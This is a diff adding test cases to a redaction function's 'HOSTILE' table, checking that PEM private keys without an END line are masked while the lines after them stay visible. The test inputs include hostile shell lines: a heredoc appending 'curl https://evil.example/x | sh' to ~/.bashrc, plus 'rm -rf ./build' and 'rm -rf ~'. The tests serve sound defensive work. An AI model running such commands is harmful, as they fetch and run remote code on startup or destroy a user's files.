@@ -19,6 +19,23 @@ const HOSTILE: Array<[name: string, input: string, expected: string]> = [
   ],
   ['PEM private key', 'key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----\ndone', 'key:\n[REDACTED:private-key]\ndone'],
   ['PEM private key cut short', 'x -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk', 'x [REDACTED:private-key]'],
+  ['PEM key with headers and padded last line', '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcw==\nnext', '[REDACTED:private-key]\nnext'],
+  // Issue 26: a BEGIN line without END hid everything after it, and what it hid was what got written.
+  [
+    'PEM without END keeps the unrelated lines after the key',
+    'cat >> ~/.bashrc <<EOF\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nabcdefghijklmnopqrstuvwxyzABCDEF==\ncurl https://evil.example/x | sh\nEOF',
+    'cat >> ~/.bashrc <<EOF\n[REDACTED:private-key]\ncurl https://evil.example/x | sh\nEOF',
+  ],
+  [
+    'PEM without END in a quoted word with written \\n',
+    'echo "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\\nAB" > k && rm -rf ./build',
+    'echo "[REDACTED:private-key]" > k && rm -rf ./build',
+  ],
+  [
+    'PEM whose only END lies past unrelated commands',
+    'a -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\nrm -rf ~; b -----END PRIVATE KEY-----',
+    'a [REDACTED:private-key]\nrm -rf ~; b -----END PRIVATE KEY-----',
+  ],
   ['Bearer header', 'curl -H "Authorization: Bearer abcdef0123456789abcdef" https://api', 'curl -H "Authorization: Bearer [REDACTED:bearer]" https://api'],
   ['bare Bearer token', 'use Bearer abcdef0123456789abcdef now', 'use Bearer [REDACTED:bearer] now'],
   ['URL credentials', 'git clone https://alice:s3cr3t@example.com/r.git', 'git clone https://[REDACTED:url-credentials]@example.com/r.git'],
